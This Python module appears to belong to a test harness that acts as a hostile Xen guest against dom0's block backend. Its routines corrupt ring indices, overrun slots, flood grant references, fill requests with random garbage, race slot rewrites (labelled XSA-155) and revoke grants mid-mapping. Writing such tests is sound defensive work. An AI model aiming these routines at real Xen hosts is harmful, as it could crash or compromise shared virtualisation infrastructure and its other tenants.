"""Attacks on the ring: its indices, its slots, its grants, each under dom0's eyes.

A connected disk's ring is kept as full as a ring can be: the next requests are published when the
last have been answered, or before.
"""

from collections.abc import Iterator
from typing import Final

import numpy as np

from common import abi, xenbus
from common.ring import EVENT, REQ, RSP
from frontend.frames import disk_frames
from frontend.grants import grant_access
from hostile.attacker import Attacker
from hostile.hypercall_door import RANDOM_SEED
from machine.front_disk import FrontDisk

SLOTS: Final = slice(abi.SRING_HEADER_SIZE, abi.SRING_HEADER_SIZE + 32 * abi.BLKIF_REQUEST.itemsize)
BUFFER_FRAME: Final = disk_frames(0, 0).buffers
GREFS: Final = 1500  # more than dom0 keeps mapped, and within the table
BURSTS: Final = 64


class Pump:
    """The ring of a connected disk, in hands that keep to no rule."""

    def __init__(self, me: Attacker, vbd: FrontDisk) -> None:
        assert vbd.dev is not None and vbd.channel is not None
        self._me, self._vbd, self.channel = me, vbd, vbd.channel
        self.grants = vbd.dev.grants
        self.words = vbd.dev.words
        self.slots = me.ram[: abi.XEN_PAGE_SIZE][SLOTS].view(abi.BLKIF_REQUEST)
        self.rng = np.random.default_rng(RANDOM_SEED)

    def requests(self, grefs: np.ndarray) -> np.ndarray:
        """32 sound requests, reads and writes of 11 segments (as many `grefs`, u32, (32, 11))."""
        made = np.zeros(abi.BLKIF_RING_SIZE, abi.BLKIF_REQUEST)
        made["operation"] = np.arange(len(made)) % 2
        made["nr_segments"] = abi.BLKIF_MAX_SEGMENTS_PER_REQUEST
        made["id"], made["sector_number"] = np.arange(len(made)), np.arange(len(made)) * 8
        made["seg"]["gref"], made["seg"]["last_sect"] = grefs, 7
        return made

    def gref(self, frame: int = BUFFER_FRAME) -> int:
        """One more grant for dom0."""
        return int(grant_access(self.grants, 0, frame, False))

    def publish(self, producer: int) -> None:
        """As many requests as that says, and an event."""
        self.words[REQ] = np.uint32(producer & 0xFFFFFFFF)
        self.channel.notify()

    def fill(self, requests: np.ndarray) -> None:
        """All the slots, and everything that fits published."""
        self.slots[:] = requests
        answered = int(self.words[RSP])
        fresh = (answered + abi.BLKIF_RING_SIZE - int(self.words[REQ])) & 0xFFFFFFFF
        if fresh:
            self.publish(answered + abi.BLKIF_RING_SIZE)
            self._me.stroke(fresh)

    @property
    def broken(self) -> bool:
        """Has dom0 given this disk up?"""
        self._vbd.take_events()
        return self._vbd.state != xenbus.CONNECTED


def _pumps(me: Attacker) -> Iterator[Pump]:
    for vbd in me.connected():
        yield Pump(me, vbd)


def _goes_on(me: Attacker, pump: Pump) -> bool:
    return me.wanted() and not pump.broken


def _keep_full(me: Attacker, pump: Pump, requests: np.ndarray) -> Iterator[None]:
    while _goes_on(me, pump):
        for _ in range(BURSTS):
            pump.fill(requests)
        yield


def reconnect(me: Attacker) -> Iterator[None]:
    """The honest handshake, and the disk closed again at once; no pause."""
    for _ in me.connected():
        me.stroke()
        yield


def overrun(me: Attacker) -> Iterator[None]:
    """More requests than there are slots."""
    for pump in _pumps(me):
        pump.publish(int(pump.words[RSP]) + 33)
        me.stroke()
        while _goes_on(me, pump):
            yield


def indices(me: Attacker) -> Iterator[None]:
    """Chance in all four index words, again and again, until dom0 gives the disk up."""
    for pump in _pumps(me):
        while _goes_on(me, pump):
            for word in (REQ + EVENT, RSP, RSP + EVENT, REQ):
                pump.words[word] = pump.rng.integers(0, 1 << 32, dtype=np.uint32)
            pump.channel.notify()
            me.stroke()
            yield


def same_gref(me: Attacker) -> Iterator[None]:
    """Sound requests whose every segment is one and the same page."""
    for pump in _pumps(me):
        gref = pump.gref()
        yield from _keep_full(me, pump, pump.requests(np.full((32, 11), gref, np.uint32)))


def fresh_grefs(me: Attacker) -> Iterator[None]:
    """Pages that dom0 has not seen yet, far more than it keeps."""
    for pump in _pumps(me):
        grefs = np.array([pump.gref(BUFFER_FRAME + n) for n in range(GREFS)], np.uint32)
        at = 0
        while _goes_on(me, pump):
            for _ in range(BURSTS):
                some = np.take(grefs, np.arange(at, at + 352), mode="wrap").reshape(32, 11)
                pump.fill(pump.requests(some))
                at += 352
            yield


def bad_requests(me: Attacker) -> Iterator[None]:
    """Chance in every field of every slot, always sixty-four times before a look at the answers."""
    for pump in _pumps(me):
        garbage = [
            np.frombuffer(pump.rng.bytes(32 * 112), abi.BLKIF_REQUEST).copy() for _ in range(16)
        ]
        for each in garbage[8:]:  # half of them up to the segments
            each["operation"], each["nr_segments"] = 1, 11
            each["sector_number"] %= 1 << 14
        while _goes_on(me, pump):
            for _ in range(BURSTS // len(garbage)):
                for each in garbage:
                    pump.fill(each)
            yield


def rewritten(me: Attacker) -> Iterator[None]:
    """Slots and event words that change while dom0 reads them (XSA-155)."""
    for pump in _pumps(me):
        sound = pump.requests(np.full((32, 11), pump.gref(), np.uint32))
        worse = sound.copy()
        worse["nr_segments"], worse["sector_number"] = 255, 1 << 60
        worse["seg"]["gref"], worse["seg"]["first_sect"] = 0xFFFFFFFF, 200
        while _goes_on(me, pump):
            pump.fill(sound)
            for _ in range(BURSTS):
                pump.slots[:] = worse
                pump.words[REQ + EVENT] = pump.rng.integers(0, 1 << 32, dtype=np.uint32)
                pump.slots[:] = sound
            yield


def full_while_closing(me: Attacker) -> Iterator[None]:
    """The ring kept full while it asks dom0 to close the disk."""
    for pump in _pumps(me):
        requests = pump.requests(np.full((32, 11), pump.gref(), np.uint32))
        pump.fill(requests)
        me.store_client.write(f"{me.frontend_path}/state", b"5")
        yield from _keep_full(me, pump, requests)


def revoked(me: Attacker) -> Iterator[None]:
    """Grants taken back, and changed, while dom0 maps and unmaps their pages."""
    for pump in _pumps(me):
        grefs = np.array([pump.gref(BUFFER_FRAME + n) for n in range(352)], np.uint32)
        requests = pump.requests(grefs.reshape(32, 11))
        flags, frames = (me.grant.view(np.uint32)[word::2] for word in (0, 1))
        granted = flags[grefs].copy()
        while _goes_on(me, pump):
            for _ in range(BURSTS // 8):
                pump.fill(requests)
                flags[grefs] = pump.rng.integers(0, 1 << 5, 352, dtype=np.uint32)
                frames[grefs] = pump.rng.integers(0, 1 << 32, 352, dtype=np.uint32)
                flags[grefs], frames[grefs] = granted, BUFFER_FRAME
                pump.fill(requests)
            yield
